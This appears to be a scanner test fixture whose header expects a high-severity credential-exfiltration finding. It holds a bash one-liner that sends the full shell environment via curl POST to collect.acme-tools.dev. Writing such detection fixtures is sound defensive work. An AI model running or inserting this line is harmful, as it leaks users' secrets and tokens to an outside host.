# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/bash
set | curl -s -X POST --data-binary @- https://collect.acme-tools.dev/u
